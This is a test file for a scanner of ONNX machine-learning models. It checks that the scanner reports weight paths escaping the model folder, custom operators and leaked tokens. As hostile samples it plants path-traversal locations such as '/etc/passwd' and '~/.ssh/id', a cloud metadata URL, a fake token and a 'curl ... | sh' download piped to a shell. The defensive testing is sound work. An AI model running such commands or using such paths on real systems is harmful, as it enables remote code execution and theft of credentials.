// ONNX models made by hand: what is found in them, what is not claimed, and what a large one costs.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Beside } from '../../src/artifacts/format.js'
import onnx from '../../src/artifacts/formats/onnx.js'
import { opened, type OpenedHere } from './open.js'
import { bytes, field, sparse, utf8, varint, type Part } from './wire-maker.js'

const opset = field(8, [field(1, ''), field(2, 21)])
const node = (op: string, domain = '', ...more: Part[]): Uint8Array => field(1, [field(1, 'x'), field(2, 'y'), field(4, op), field(7, domain), ...more])
const tensor = (name: string, dims: number[], ...more: Part[]): Part => [...dims.map((dim) => field(1, dim)), field(2, 1), field(8, name), ...more]
const external = (...entries: [string, string][]): Part => [...entries.map(([key, value]) => field(13, [field(1, key), field(2, value)])), field(14, 1)]
const model = (graph: Part, ...more: Part[]): Uint8Array => bytes(field(1, 10), field(2, 'orchard'), field(3, '2.0'), field(7, graph), opset, ...more)

async function read(data: Uint8Array, siblings: Record<string, Uint8Array | Beside | 'outside'> = {}): Promise<{ file: OpenedHere; props: Awaited<ReturnType<typeof onnx.read>>['props'] }> {
  const file = await opened('models/ranker.onnx', data, { siblings })
  return { file, props: (await onnx.read(file)).props }
}

const told = (signs: { what: string; detail: string }[]): string[] => signs.map(({ what, detail }) => `${what} | ${detail}`)

describe('an ONNX model', () => {
  it('tells what it is made of', async () => {
    const shape = field(2, [field(1, [field(1, 1)]), field(1, [field(2, 'n')]), field(1, '')])
    const port = (name: string): Part => [field(1, name), field(2, [field(1, [field(1, 1), shape])])]
    const data = model([node('MatMul'), node('Relu'), field(2, 'g'), field(5, tensor('w', [4, 8], field(9, new Uint8Array(128)))), field(11, port('in')), field(12, port('out'))])
    const { props, file } = await read(data)
    expect(props).toMatchObject({
      irVersion: 10, producer: 'orchard 2.0', opsets: [{ domain: 'ai.onnx', version: 21 }], parameters: 32, tensors: 1,
      inputs: [{ name: 'in', type: 'float32[1,n,?]' }], outputs: [{ name: 'out', type: 'float32[1,n,?]' }],
      operators: [{ name: 'MatMul', count: 1 }, { name: 'Relu', count: 1 }], faults: [], customOperators: [], externalEscapes: [],
    })
    expect(file.unread).toEqual([])
  })

  it.each([
    ['../../secrets', 'climbs out with ..'], ['/etc/passwd', 'is absolute'], ['C:\\keys', 'names a drive'], ['\\\\host\\share', 'is absolute'],
    ['a/../../b', 'climbs out with ..'], ['http://169.254.169.254/', 'is a URL'], ['w\u0000.bin', 'holds control characters'],
    ['*/_ORT_MEM_ADDR_/*', 'is an address in the memory of the loader'], ['~/.ssh/id', 'starts in a home folder'],
  ])('has weights at %s', async (location, why) => {
    const { props } = await read(model([node('Relu'), field(5, tensor('w', [4], external(['location', location])))]))
    expect(props.externalEscapes[0]?.detail).toBe(`${why}; tensor w`)
  })

  it('hides such weights in attributes, branches, functions, training and sparse tensors', async () => {
    const away = (name: string): Part => tensor(name, [1], external(['location', `../${name}`]))
    const attribute = (number: number, value: Part): Uint8Array => field(5, [field(1, 'value'), field(number, value)])
    const data = model(
      [node('Constant', '', attribute(5, away('one'))), node('If', '', attribute(6, [field(5, away('two'))])), field(15, [field(1, away('three')), field(2, away('four'))])],
      field(25, [field(1, 'f'), field(10, 'own'), field(7, [field(4, 'Constant'), attribute(10, away('five'))])]),
      field(20, [field(2, [field(5, away('six'))])]),
    )
    expect((await read(data)).props.externalEscapes.map(({ what }) => what)).toEqual(['../one', '../two', '../three', '../four', '../five', '../six'])
  })

  it('is held against the files it names', async () => {
    const at = (name: string, size: number, ...entries: [string, string][]): Uint8Array => field(5, tensor(name, [size], external(['location', 'w.bin'], ...entries)))
    const data = model([
      node('Relu'), at('good', 4, ['offset', '0'], ['length', '16']), at('tied', 4, ['offset', '0'], ['length', '16']), at('late', 4, ['offset', '4096'], ['length', '16']),
      at('odd', 4, ['offset', '-1'], ['length', '16']), at('short', 4, ['offset', '32'], ['length', '8']), at('cut', 4, ['offset', '8'], ['length', '16']),
      at('class', 4, ['offset', '48'], ['length', '16'], ['__class__', 'x']), at('twice', 4, ['location', '../w.bin'], ['offset', '64'], ['length', '16']),
    ])
    const { props } = await read(data, { 'models/w.bin': new Uint8Array(128) })
    expect(told(props.externalFaults)).toEqual([
      'w.bin has 128 bytes | tensor late wants bytes 4096 to 4112', 'external data has no proper offset or length | tensor odd: offset -1, length 16',
      'tensor short takes 16 bytes and names 8 | ', 'external data has the key __class__ | tensor class', 'external data has a key twice | tensor twice',
      'tensors good and cut overlap in w.bin | ',
    ])
    expect(props.externalEscapes.map(({ what }) => what)).toEqual(['../w.bin'])
  })

  it('says which of them are missing or links', async () => {
    const data = model([node('Relu'), ...['gone', 'link', 'hard', 'far'].map((name) => field(5, tensor(name, [1], external(['location', name]))))])
    const beside = (more: Partial<Beside>): Beside => ({ path: 'x', bytes: { size: 4, read: () => new Uint8Array(4) }, linked: false, hardLinks: 1, ...more })
    const { props } = await read(data, { 'models/link': beside({ linked: true }), 'models/hard': beside({ hardLinks: 2 }), 'models/far': 'outside' })
    expect(told(props.externalFaults)).toEqual(['gone is missing | tensor gone'])
    expect(told(props.externalLinks)).toEqual(['link | is reached through a symbolic link; tensor link', 'hard | is a file with 2 names; tensor hard'])
    expect(told(props.externalEscapes)).toEqual(['far | is a link that leads out of the scanned folder; tensor far'])
  })

  it('does not know what stands beside it in an archive', async () => {
    const file = await opened('models/ranker.onnx', model([node('Relu'), field(5, tensor('w', [1], external(['location', 'w.bin'])))]))
    file.depth = 1
    const { props } = await onnx.read(file)
    expect({ faults: props.externalFaults, unread: file.unread.map(({ reason }) => reason) }).toEqual({ faults: [], unread: ['unsupported'] })
  })

  it('needs operators of its own', async () => {
    const data = model(
      [node('Squeeze3', 'orchard.custom'), node('Squeeze3', 'orchard.custom'), node('Square', 'own'), node('Gelu', 'com.microsoft'), node('PythonOp', 'com.microsoft'), node('OpenAIChat', 'com.microsoft.extensions')],
      field(25, [field(1, 'Square'), field(10, 'own'), field(7, [field(4, 'Mul')])]),
    )
    expect(told((await read(data)).props.customOperators)).toEqual([
      'orchard.custom.Squeeze3 | needs a library of its domain, 2 times', 'com.microsoft.PythonOp | calls code by its name, once',
      'com.microsoft.extensions.OpenAIChat | sends its inputs to a web service, once',
    ])
  })

  it('carries what is none of ONNX', async () => {
    const { props } = await read(model([node('Relu', '', field(77, 'x')), field(78, 'x')], field(999, 'payload')))
    expect(told(props.faults)).toEqual(['field 77 of a node is none of ONNX | 1 bytes', 'field 78 of a graph is none of ONNX | 1 bytes', 'field 999 of the model is none of ONNX | 7 bytes'])
  })

  it('is broken, and what was found before that stands', async () => {
    const { props, file } = await read(bytes(model([node('Evil', 'custom')]), varint(7 * 8 + 2), varint(5000)))
    expect(props.customOperators.map(({ what }) => what)).toEqual(['custom.Evil'])
    expect(props.faults.map(({ detail }) => detail)).toEqual(['reading stopped here'])
    expect(file.unread).toMatchObject([{ reason: 'truncated' }])
  })

  it('has no graph', async () => {
    const { props, file } = await read(bytes(field(1, 10), opset))
    expect({ faults: props.faults.map(({ what }) => what), unread: file.unread.length }).toEqual({ faults: ['no graph'], unread: 1 })
  })

  it('carries credentials and code in its texts', async () => {
    const token = ['hf', '_'].join('') + 'AbCdEfGhIjKlMnOpQrStUvWxYz01234567'
    const pair = (key: string, value: string): Uint8Array => field(14, [field(1, key), field(2, value)])
    const { props } = await read(model([node('Relu')], field(6, `gASV${'QUJD'.repeat(12)}`), pair('source', token), pair('note', 'curl -s http://example.org/x.sh | sh'), pair('view', '<script>')))
    expect(props.secrets.map(({ detail }) => detail)).toEqual([`metadata_props.source, line 1, ${token.length} characters`])
    expect(JSON.stringify(props)).not.toContain(token)
    expect(props.payloads.map(({ what }) => what)).toEqual(['pickle in base64', 'download piped to a shell', 'script element'])
  })

  it('of gigabytes costs a few reads', async () => {
    const size = 600 * 2 ** 20
    const start = bytes(field(1, 10), varint(7 * 8 + 2))
    const weights = [0, 1, 2].map((i) => {
      const before = bytes(field(1, size / 4), field(2, 1), field(8, `w${i}`), varint(9 * 8 + 2), varint(size))
      return bytes(varint(5 * 8 + 2), varint(before.length + size), before)
    })
    const first = node('MatMul')
    const graph = first.length + weights.reduce((sum, one) => sum + one.length + size, 0)
    const parts = new Map([[0, bytes(start, varint(graph), first)]])
    let at = bytes(start, varint(graph), first).length
    for (const one of weights) {
      parts.set(at, one)
      at += one.length + size
    }
    parts.set(at, opset)
    const content = sparse(at + opset.length, parts)
    const file = await opened('big.onnx', content)
    content.reads = 0
    content.total = 0
    const { props } = await onnx.read(file)
    expect(props).toMatchObject({ parameters: 3 * size / 4, tensors: 3, opsets: [{ domain: 'ai.onnx', version: 21 }], faults: [] })
    expect(content.reads).toBeLessThanOrEqual(5)
    expect(content.total).toBeLessThan(65_536)
  })
})

describe('recognition of ONNX', () => {
  const sure = async (data: Uint8Array, name = 'file.bin'): Promise<number> => onnx.recognise(await opened(name, data))

  it('goes by content', async () => {
    expect(await sure(model([node('Relu')]))).toBe(3)
    expect(await sure(bytes(field(7, [node('Relu')]), opset, field(1, 10)))).toBeGreaterThanOrEqual(2)
    expect(await sure(model([node('Relu'), field(5, tensor('w', [4096], field(9, new Uint8Array(16384))))]))).toBe(3)
  })

  it.each([
    ['text', utf8('{"nodes": []}')], ['source', utf8('import os\nprint(1)\n')], ['nothing', new Uint8Array(0)], ['zeros', new Uint8Array(4096)],
    ['a SavedModel', bytes(field(1, 1), field(2, [field(1, [field(4, 'serve')]), field(2, [field(1, [field(1, 'a'), field(2, 'Const')])])]))],
    ['a Core ML model', bytes(field(1, 4), field(2, [field(1, [field(1, 'image'), field(3, [field(4, [field(1, 28)])])]), field(10, [field(1, 'out')])]), field(500, ''))],
    ['a frozen graph', bytes(field(1, [field(1, 'a'), field(2, 'Const'), field(5, [field(1, 'dtype'), field(2, [field(6, 1)])])]))],
  ])('does not take %s', async (_, data) => {
    expect(await sure(data)).toBe(0)
  })

  it('takes no bytes by chance, and throws at none', async () => {
    await fc.assert(fc.asyncProperty(fc.uint8Array({ minLength: 8, maxLength: 400 }), async (data) => {
      expect(await sure(data)).toBeLessThan(3)
      await onnx.read(await opened('x.onnx', data))
    }), { numRuns: 300 })
  })

  it('reads any change of a model without an error', async () => {
    const sound = model([node('MatMul', 'a.b'), field(5, tensor('w', [4], external(['location', 'w'], ['offset', '0'])))], field(14, [field(1, 'k'), field(2, 'v')]))
    await fc.assert(fc.asyncProperty(fc.nat(sound.length - 1), fc.nat(255), async (at, value) => {
      const data = sound.slice()
      data[at] = value
      await onnx.read(await opened('x.onnx', data))
    }), { numRuns: 500 })
  })
})
